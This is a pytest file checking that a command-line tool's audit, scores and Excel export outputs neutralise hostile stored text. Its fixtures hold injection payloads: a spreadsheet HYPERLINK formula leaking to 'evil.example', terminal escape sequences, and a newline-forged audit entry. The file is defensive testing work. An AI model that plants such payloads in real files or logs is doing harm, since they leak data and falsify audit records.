"""People's text through the real command line and the .xlsx export: shown, never obeyed.

A check-in note can hold a bell, an escape sequence that recolours the terminal and a line
break followed by a forged audit line; a business unit's name can look like a formula. The
text is stored with SQL, as an older version (or another tool) may have stored it: the
door now refuses control characters, the outputs must still cope with what is stored.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from openpyxl import load_workbook

from cxos.storage import Database
from cxos.work.checkins_readings import record_check_in
from tests.sample import load_sample

ROOT = Path(__file__).resolve().parents[1]
NOTE = "fine\x07\x1b[31m red\n2026-01-01 00:00:00\tadmin\tdelete\tpeople\tp_ceo"
UNIT = '=HYPERLINK("http://evil.example/?leak", "Retail")\x1b[2J'
AS_OF = "2026-06-01"


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """The sample company with a hostile check-in note (and its audit entry) and unit name."""
    path = tmp_path / "cxos.duckdb"
    db = Database(path)
    load_sample(db)
    record_check_in(db, "p_member", "a_bill", status="in_progress", note="placeholder")

    def plant(con: object) -> None:
        con.execute("UPDATE check_ins SET note = ? WHERE note = 'placeholder'", [NOTE])  # type: ignore[attr-defined]
        con.execute("UPDATE audit_log SET new_value = ? WHERE new_value = 'placeholder'", [NOTE])  # type: ignore[attr-defined]
        con.execute("UPDATE business_units SET name = ? WHERE id = 'bu_retail'", [UNIT])  # type: ignore[attr-defined]

    db.read(plant)
    db.close()
    return path


def cxos(*args: str, db: Path) -> str:
    env = {**os.environ, "CXOS_DB": str(db)}
    done = subprocess.run(
        [sys.executable, "-m", "cxos", *args],
        capture_output=True, text=True, env=env, cwd=ROOT, timeout=300,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    return done.stdout


def _inert_on_a_terminal(out: str) -> None:
    assert "\x1b" not in out and "\x07" not in out
    assert not any(line.startswith("2026-01-01") for line in out.splitlines())


def test_audit_shows_a_note_without_obeying_it(hostile: Path) -> None:
    out = cxos("audit", db=hostile)
    _inert_on_a_terminal(out)
    shown = [line for line in out.splitlines() if "fine" in line]
    assert len(shown) == 1
    assert "fine\\x07\\x1b[31m red\\n2026-01-01 00:00:00\\tadmin" in shown[0]


def test_audit_as_csv_keeps_the_note_whole_and_as_json_exact(hostile: Path) -> None:
    rows = list(csv.DictReader(io.StringIO(cxos("audit", "--format", "csv", db=hostile))))
    assert NOTE in [row["new"] for row in rows]
    entries = json.loads(cxos("audit", "--format", "json", db=hostile))
    assert NOTE in [entry["new"] for entry in entries]


def test_scores_show_a_hostile_name_inert_in_every_format(hostile: Path) -> None:
    table = cxos("scores", "--as-of", AS_OF, db=hostile)
    _inert_on_a_terminal(table)
    assert "=HYPERLINK" in table and "\\x1b[2J" in table

    rows = list(
        csv.DictReader(io.StringIO(cxos("scores", "--as-of", AS_OF, "--format", "csv", db=hostile)))
    )
    units = {row["business_unit"] for row in rows}
    assert "'" + UNIT in units, "a formula-like name must not run in a spreadsheet"
    assert all(not unit.startswith("=") for unit in units)
    assert float(rows[0]["alignment"]) >= 0  # numbers stay numbers

    entries = json.loads(cxos("scores", "--as-of", AS_OF, "--format", "json", db=hostile))
    assert UNIT in {entry["business_unit"] for entry in entries}


def test_explain_shows_a_hostile_name_inert(hostile: Path) -> None:
    _inert_on_a_terminal(cxos("explain", "t_billing", "--as-of", AS_OF, db=hostile))


def test_the_xlsx_export_holds_a_stored_control_character(hostile: Path, tmp_path: Path) -> None:
    out = cxos("export", str(tmp_path / "x.xlsx"), db=hostile)
    assert "exported to" in out
    book = load_workbook(tmp_path / "x.xlsx")
    notes = [row[-1] for row in book["check_ins"].iter_rows(values_only=True)]
    assert "fine\ufffd\ufffd[31m red\n2026-01-01 00:00:00\tadmin\tdelete\tpeople\tp_ceo" in notes
    unit = next(
        c
        for row in book["business_units"].iter_rows()
        for c in row
        if c.value == UNIT[:-4] + "\ufffd[2J"
    )
    assert unit.data_type == "s" and unit.quotePrefix
